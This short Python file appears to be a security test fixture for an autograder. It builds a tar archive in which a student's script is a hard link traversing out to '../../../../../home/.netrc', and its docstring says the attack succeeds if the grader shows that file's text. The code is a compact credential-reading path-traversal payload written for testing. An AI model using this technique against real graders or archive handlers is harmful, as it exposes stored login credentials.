"""A tar archive whose script is another name of a file of the instructor's. Success: it is graded, and its text shown."""
import tarfile


def build(folder):
    with tarfile.open(folder / "class.tar", "w") as archive:
        member = tarfile.TarInfo("alice/01_tiny/tiny.py")
        member.type, member.linkname = tarfile.LNKTYPE, "../../../../../home/.netrc"
        archive.addfile(member)
    return folder / "class.tar"
